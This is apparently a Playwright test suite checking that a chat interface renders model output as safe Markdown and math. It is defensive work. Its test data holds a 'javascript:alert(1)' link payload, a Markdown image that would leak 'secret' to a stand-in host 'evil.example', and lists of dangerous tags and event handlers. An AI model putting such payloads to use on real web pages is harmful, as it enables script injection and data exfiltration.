"""What a model or a peer writes is shown as Markdown, and never becomes more than text."""

import tomllib
from pathlib import Path

from playwright.sync_api import Page, expect

from tests.fakes.ollama_server import FakeOllama, done, reply, text
from tests.mission import requirement
from tests.web.axe import assert_accessible
from tests.web.talk import ask, expect_answered, turn
from tests.web.watch import Watch

CORPUS = tomllib.loads(Path(__file__).with_name("xss_corpus.toml").read_text("utf-8"))["texts"]
EVERYTHING = """\
# Bread

Mix **flour** and *water*, ~~not~~ `1:1`; see [the guide](https://example.com/bread).

1. one
   - inner
2. two

- [x] fed

> doubled

| Flour | Water |
| --- | --: |
| 500 g | 375 g |

```python
def hydration() -> int:
    return 75
```

5 &lt; 6 &amp; 7
"""


FORMULAS = r"""\
Energy is $E = mc^2$, half of it \(\frac{1}{2}E\), and it costs $5 or $10.

\[
\begin{aligned} f(x) &= (x+1)^2 \\ &= x^2 + 2x + 1 \end{aligned}
\]

| Law | Formula |
| --- | --- |
| Ohm | $U = R \cdot I$ |

```sh
echo one
```

```sh
echo two
```

In between $$\alpha \to \infty$$ there is $\frac{a$ and \(\href{javascript:alert(1)}{x}\), which is no formula at all.
"""


def cut(whole: str, *, size: int = 3) -> list[str]:
    """Cut a text into small pieces, so that every construct is seen half-written."""
    return [whole[at : at + size] for at in range(0, len(whole), size)]


@requirement("Q6")
def test_every_common_construct_of_markdown_is_shown_as_what_it_means(page: Page, model: FakeOllama) -> None:
    model.chat(reply(*text(*cut(EVERYTHING)), done()))
    ask(page, "how do I bake")
    expect_answered(page, "5 < 6 & 7")
    said = turn(page)
    expect(said.get_by_role("heading", name="Bread")).to_be_visible()
    expect(said.locator("strong")).to_have_text("flour")
    expect(said.locator("em")).to_have_text("water")
    expect(said.locator("ol > li")).to_have_count(2)
    expect(said.get_by_role("checkbox")).to_be_checked()
    expect(said.locator("blockquote")).to_have_text("doubled")
    expect(said.get_by_role("cell", name="375 g")).to_be_visible()
    link = said.get_by_role("link", name="the guide")
    expect(link).to_have_attribute("href", "https://example.com/bread")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(said.locator("figure.code .hl-keyword").first).to_have_text("def")


def test_formulas_are_drawn_and_what_is_none_stays_as_it_is(page: Page, model: FakeOllama) -> None:
    model.chat(reply(*text(*cut(FORMULAS)), done()))
    ask(page, "show formulas")
    expect_answered(page, "no formula at all")
    said = turn(page)
    expect(said.locator("math")).to_have_count(5)
    expect(said.locator("math mfrac")).to_have_count(1)
    expect(said.get_by_role("group", name="Formula").locator("mtable mtr")).to_have_count(2)
    expect(said.locator("td math")).to_be_visible()
    expect(said.locator("p code")).to_have_text([r"\frac{a", r"\href{javascript:alert(1)}{x}"])
    expect(said).to_contain_text("costs $5 or $10")
    assert_accessible(page)


@requirement("Q6")
def test_a_block_of_code_is_copied_with_one_press(page: Page, model: FakeOllama) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    model.chat(reply(*text("```sh\nls -l\n```"), done()))
    ask(page, "list files")
    expect_answered(page, "ls -l")
    turn(page).get_by_role("button", name="Copy code").click()
    expect(turn(page).get_by_text("Copied")).to_be_visible()
    assert page.evaluate("() => navigator.clipboard.readText()") == "ls -l"


@requirement("Q6")
def test_code_gets_its_colours_only_when_its_fence_is_closed(page: Page, model: FakeOllama) -> None:
    model.chat(
        reply(*text("```python\ndef f(): pass\n"), done()),
        reply(*text("```python\ndef f(): pass\n```\n"), done()),
    )
    ask(page, "an open one")
    expect_answered(page, "def f")
    ask(page, "a closed one")
    expect(turn(page).locator(".hl-keyword").first).to_be_visible()


@requirement("Q6")
def test_no_hostile_text_runs_loads_or_leads_anywhere(page: Page, model: FakeOllama, watch: Watch) -> None:
    assert len(CORPUS) >= 40
    model.chat(reply(*text(*cut("\n\n---\n\n".join(CORPUS), size=5)), done()))
    ask(page, "be hostile")
    expect_answered(page, "desrever")
    said = turn(page).locator(".markdown")
    assert page.evaluate("() => window.hacked") is None
    dangerous = (
        "script, img, iframe, svg:not(.icon), object, embed, link, style, form, base, meta, video, audio"
    )
    expect(said.locator(dangerous)).to_have_count(0)
    addresses = said.locator("a").evaluate_all("(links) => links.map((link) => link.getAttribute('href'))")
    assert all(address.startswith(("https://", "http://", "mailto:", "#")) for address in addresses), (
        addresses
    )
    assert not any("@" in address for address in addresses)
    handlers = (
        "(all) => all.flatMap((one) => one.getAttributeNames()).filter((name) => name.startsWith('on'))"
    )
    assert said.locator("*").evaluate_all(handlers) == []
    assert not [url for url in watch.requests if "evil" in url]


@requirement("Q6")
def test_each_hostile_text_alone_is_harmless_also_as_a_message_of_the_owner(
    page: Page, model: FakeOllama
) -> None:
    for hostile in CORPUS:
        model.chat(reply(*text(hostile), done()))
        ask(page, hostile)
        expect_answered(page, hostile)
    assert page.evaluate("() => window.hacked") is None


@requirement("Q6")
def test_an_image_is_named_and_never_loaded(page: Page, model: FakeOllama) -> None:
    model.chat(reply(*text("![a chart](https://evil.example/?q=secret)"), done()))
    ask(page, "show it")
    expect_answered(page, "Image: a chart")
    expect(turn(page)).to_contain_text("https://evil.example/?q=secret")
    expect(turn(page).locator("img")).to_have_count(0)


@requirement("Q12")
def test_an_answer_has_no_barrier_that_axe_can_find(page: Page, model: FakeOllama) -> None:
    model.chat(reply(*text(EVERYTHING), done()))
    ask(page, "how do I bake")
    expect(turn(page).locator(".hl-keyword").first).to_be_visible()
    assert_accessible(page)


def test_a_link_of_a_model_leads_out_of_the_cockpit_and_never_into_it(page: Page, model: FakeOllama) -> None:
    own = "[go](#/w/main) [api](/api/agent/status) [root](/?token=abc)"
    said = f"{own} [out](https://example.com/)[^1]\n\n[^1]: rye\n"
    model.chat(reply(*text(said), done()))
    ask(page, "links")
    expect_answered(page, "[^1]: rye")
    expect(turn(page).get_by_role("link")).to_have_count(1)
    expect(turn(page).get_by_role("link", name="out")).to_have_attribute("target", "_blank")
    expect(turn(page)).to_contain_text("out[^1]")
